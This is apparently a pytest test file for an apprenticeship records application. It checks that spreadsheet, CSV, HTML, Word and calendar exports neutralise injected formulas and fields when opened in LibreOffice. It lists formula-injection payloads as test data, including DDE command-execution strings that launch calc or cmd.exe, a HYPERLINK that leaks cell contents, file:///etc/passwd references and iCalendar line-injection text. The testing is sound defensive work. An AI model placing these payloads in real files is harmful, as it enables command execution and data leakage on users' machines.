"""Nothing that goes out is worked out by whoever opens it: LibreOffice opens each kind of export.

The same texts written without care are worked out, so that these tests can fail.
"""

from __future__ import annotations

import csv
import re
import zipfile
from dataclasses import fields, replace
from datetime import UTC, date, datetime
from html import escape
from pathlib import Path
from typing import Any
from uuid import UUID

import openpyxl
import pytest
from icalendar import Calendar

from apprentice_desk.documents import calendar_file, docx, tree
from apprentice_desk.domain.calendar import Period
from apprentice_desk.domain.calendar_events import DatedEvent
from apprentice_desk.domain.hours_rules import Activity
from apprentice_desk.domain.plain_cells import as_lines
from apprentice_desk.domain.progress import Progress
from apprentice_desk.imports import log_sheets
from apprentice_desk.imports.log_sheets import Log, LoggedEntry, LogPerson
from apprentice_desk.records.hours import HoursDetails
from apprentice_desk.returns import giving_back, workbook
from apprentice_desk.returns.merge import merge
from apprentice_desk.returns.merged_workbook import write_merged
from apprentice_desk.returns.schema import load
from apprentice_desk.sheets import write_csv
from apprentice_desk.sheets.quieting import is_quiet
from apprentice_desk.ui import listing
from apprentice_desk.ui.kit.rows import Column
from apprentice_desk.ui.kit.seen import SeenList
from office import Office
from returns.making import HACKNEY, full_content

HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,2)",
    "=cmd|' /C calc'!A0",
    '=DDE("soffice","/etc/passwd","A1")',
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?leak="&A1,"Ada")',
    '=WEBSERVICE("http://example.org/")',
    "='file:///etc/passwd'#$Sheet1.A1",
    "=[1]Sheet1!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "|calc",
    "{=1+1}",
    "\uff1d1+1",
    '","=1+1',
    '"\n=1+1',
)
SCHEMA = load()
NOON = datetime(2026, 11, 24, 12, tzinfo=UTC)


def spoilt(line: Any, text: str) -> Any:
    """Return a line of a return with *text* in every field that holds text."""
    texts = {one.name: text for one in fields(line) if isinstance(getattr(line, one.name), str)}
    return replace(line, **texts)


def a_return(path: Path) -> None:
    """Write a return whose every text is hostile, each in its turn, without checking it."""
    made = full_content()
    content = replace(
        made,
        header=replace(made.header, prepared_by=HOSTILE[0], borough_name=HOSTILE[4]),
        **{
            each.name: tuple(
                spoilt(line, text) for line in getattr(made, each.name)[:1] for text in HOSTILE
            )
            for each in fields(made)
            if isinstance(getattr(made, each.name), tuple) and getattr(made, each.name)
        },
    )
    workbook.write(content, SCHEMA, path)


def a_merged_one(path: Path) -> None:
    folder = path.parent / "in"
    folder.mkdir()
    made = full_content()
    barriers = tuple(
        replace(made.barriers[0], what_stands_in_the_way=text, what_helped=text) for text in HOSTILE
    )
    people = tuple(replace(line, provider_name=HOSTILE[4]) for line in made.apprentices)
    content = replace(
        made,
        header=replace(made.header, prepared_by=HOSTILE[5]),
        apprentices=people,
        barriers=barriers,
    )
    workbook.write(content, SCHEMA, folder / "=1+1.xlsx")
    write_merged(merge([folder], schema=SCHEMA), path)


def one_given_back(path: Path) -> None:
    """Mark a return whose borough put formulas into it, some of which reach out."""
    source = path.parent / "theirs.xlsx"
    workbook.write(full_content(HACKNEY), SCHEMA, source)
    book = openpyxl.load_workbook(source)
    sheet = book["Apprentices"]
    sheet["F3"] = 9  # what is found, so that it is given back
    for at, text in enumerate((one for one in HOSTILE if one.startswith("=")), 30):
        sheet.cell(at, 30).value = text
    sheet["AD20"] = "=SUM(D2:D3)"
    sheet["AD21"].hyperlink = "file:///etc/passwd"
    book.save(source)
    out = path.parent / "merged.xlsx"
    written = giving_back.write_all(merge([source], schema=SCHEMA), out)
    (written.folder / "Hackney 2026-27 Q3 - findings.xlsx").replace(path)


def a_log(path: Path) -> None:
    told = [(UUID(int=at), text) for at, text in enumerate(HOSTILE, 1)]
    people = tuple(LogPerson(key, f"{text}{key.int}") for key, text in told)
    day, activity = date(2026, 11, 2), next(iter(Activity))
    entries = tuple(
        LoggedEntry(key, HoursDetails(key, day, 60, activity, what=text, ksbs=text), "", 1)
        for key, text in told
    )
    span = Period(date(2026, 11, 1), date(2026, 11, 30))
    log_sheets.write(path, Log(UUID(int=99), HOSTILE[4], False, NOON, span, people, entries))


def seen_list() -> SeenList:
    columns = (
        Column("=1+1", lambda row: row),
        Column("Hours", lambda row: row, holds="hours", value=lambda row: row, right=True),
    )
    return SeenList("=cmd|' /C calc'!A0 [x]: /", (("=1+1", "=1+1"),), columns, HOSTILE)


def a_list(path: Path) -> None:
    listing.save_workbook(path, seen_list(), listing.Origin("=1+1", "today", False), Progress())


def a_csv(path: Path) -> None:
    write_csv(path, [("=1+1", "Name"), *((text, text) for text in HOSTILE)])


def a_table_to_paste(path: Path) -> None:
    path.write_text(listing.as_html(seen_list(), Progress()), "utf-8")


def lines_to_paste(path: Path) -> None:
    path.write_text(as_lines([("=1+1", "Name"), *((text, text) for text in HOSTILE)]), "utf-8")


def a_letter(path: Path) -> None:
    blocks = tuple(tree.Para(text) for text in (*HOSTILE, 'DDEAUTO c:\\windows\\cmd.exe "/k calc"'))
    table = tree.Table("=1+1", (tree.Column("=1+1"),), tuple((text,) for text in HOSTILE))
    docx.write(path, tree.Document("=1+1", (*blocks, table)))


EXPORTS = {
    "return.xlsx": a_return,
    "merged.xlsx": a_merged_one,
    "given back.xlsx": one_given_back,
    "log.xlsx": a_log,
    "list.xlsx": a_list,
    "list.csv": a_csv,
    "pasted.html": a_table_to_paste,
    "pasted.tsv": lines_to_paste,
    "letter.docx": a_letter,
}
ALLOWED = {
    "given back.xlsx": ["=SUM(D2:D3)", "=1+1"],
    "letter.docx": ["Page number", "Statistics"],
}
"""What may be worked out: a borough's own sums, and the pages of a letter."""

WORKED_OUT = "44,34,76,1,,0,false,true,false,false,false,-1,true"
"""How LibreOffice is asked for a CSV file with its formulas worked out, as Excel does."""
WAYS = {
    ".csv": {"FilterName": "Text - txt - csv (StarCalc)", "FilterOptions": WORKED_OUT},
    ".tsv": {
        "FilterName": "Text - txt - csv (StarCalc)",
        "FilterOptions": WORKED_OUT.replace("44", "9", 1),
    },
    ".html": {"FilterName": "calc_HTML_WebQuery"},
}


def careless(folder: Path) -> list[Path]:
    """Write the same without care, as CSV, lines to paste and a workbook."""
    with (folder / "bad.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([(text, "x") for text in HOSTILE])
    (folder / "bad.tsv").write_text("".join(f"{text.strip()}\tx\n" for text in HOSTILE), "utf-8")
    cells = "".join(f"<tr><td>{escape(text)}</td></tr>" for text in HOSTILE)
    (folder / "bad.html").write_text(f"<table>{cells}</table>", "utf-8")
    book = openpyxl.Workbook()
    for text in HOSTILE[:1]:
        book.active.append([text])
    book.save(folder / "bad.xlsx")
    return [folder / name for name in ("bad.csv", "bad.tsv", "bad.xlsx", "bad.html")]


@pytest.fixture(scope="module")
def opened(office: Office, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """What LibreOffice makes of each export, and of the same written without care."""
    paths = []
    for name, write in EXPORTS.items():
        folder = tmp_path_factory.mktemp("out")
        write(folder / name)
        paths.append(folder / name)
    paths += careless(tmp_path_factory.mktemp("careless"))
    orders = [{"open": str(path), "cells": True, "as": WAYS.get(path.suffix, {})} for path in paths]
    return {path.name: found for path, found in zip(paths, office(orders), strict=True)}


@pytest.mark.parametrize("name", EXPORTS)
def test_no_cell_of_an_export_is_worked_out(name, opened):
    found = opened[name]
    assert found["formulas"] == ALLOWED.get(name, [])
    assert found["links"] == 0
    shown = "WEBSERVICE" if name == "given back.xlsx" else "1+1"
    assert any(shown in text for text in found["texts"]), found["texts"]


@pytest.mark.parametrize("name", ["bad.csv", "bad.tsv", "bad.xlsx", "bad.html"])
def test_the_same_written_without_care_is(name, opened):
    assert opened[name]["formulas"]


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1", "=SUM(Apprentices!D2:D40)", '=IF(A1="x|y","a","b")', "=ROUND(A1/60,2)&\" h\"",
        "=_xlfn.XLOOKUP(A1,B:B,C:C)",
    ],
)  # fmt: skip
def test_sums_in_a_workbook_that_is_passed_on_stay(formula):
    assert is_quiet(formula)


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://example.org")', "=cmd|'/C calc'!A0", "=[1]Sheet1!A1", '=IMAGE("x")',
        "='\\\\server\\share\\[a.xlsx]S'!A1", '=HYPERLINK("http://example.org")', '=CALL("a","b")',
        '=_xlfn.FILTERXML(A1,"x")', "=RTD(1,2)", "='file:///etc/passwd'#$A.B1", "=Webservice (A1)",
        '=REGISTER.ID("a","b")', "=" + "1+" * 9_000 + "1", "=Unknown.Name(A1)",
    ],
)  # fmt: skip
def test_what_reaches_out_of_a_workbook_is_not_passed_on(formula):
    assert not is_quiet(formula)


def test_a_text_can_add_no_line_to_a_calendar():
    """Whoever takes the file in would fetch what such a line names, or hear an alarm run it."""
    text = "Ada\r\nATTACH:file:///etc/passwd\r\nBEGIN:VALARM\nACTION:PROCEDURE\rEND:VEVENT"
    event = DatedEvent(
        uid="1\r\nX-A:1", on=date(2026, 11, 24), title=text, place=text, words=text, version=0
    )
    packed = calendar_file.content([event], NOON, 60)
    (found,) = Calendar.from_ical(packed).walk("VEVENT")
    assert "ATTACH" not in found
    assert "X-A" not in found
    assert not list(found.subcomponents)
    assert str(found["summary"]).startswith("Ada")


FIELDS = {"PAGE", "NUMPAGES", "SECTIONPAGES", "STYLEREF", "TOC", "PAGEREF", "REF"}


def test_a_word_document_has_no_field_that_asks_for_anything(tmp_path):
    a_letter(tmp_path / "a.docx")
    with zipfile.ZipFile(tmp_path / "a.docx") as archive:
        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    whole = "".join(parts.values())
    asked = re.findall(r"<w:instrText[^>]*>\s*(\w+)|w:instr=\"\s*(\w+)", whole)
    assert asked
    assert {one or other for one, other in asked} <= FIELDS
    assert "DDEAUTO" in whole  # the words are there, as words
    outside = re.findall(r"<Relationship [^>]*TargetMode=[^>]*>", whole)
    assert outside, "an address in a text can be followed by whoever clicks on it"
    assert all("/hyperlink" in each and 'Target="http' in each for each in outside)


def test_every_csv_file_is_written_with_care():
    source = Path(__file__).parents[1] / "src" / "apprentice_desk"
    texts = {path.name: path.read_text("utf-8") for path in source.rglob("*.py")}
    writing = {name for name, text in texts.items() if "csv.writer(" in text}
    assert writing
    assert [name for name in writing if "as_plain" not in texts[name]] == []
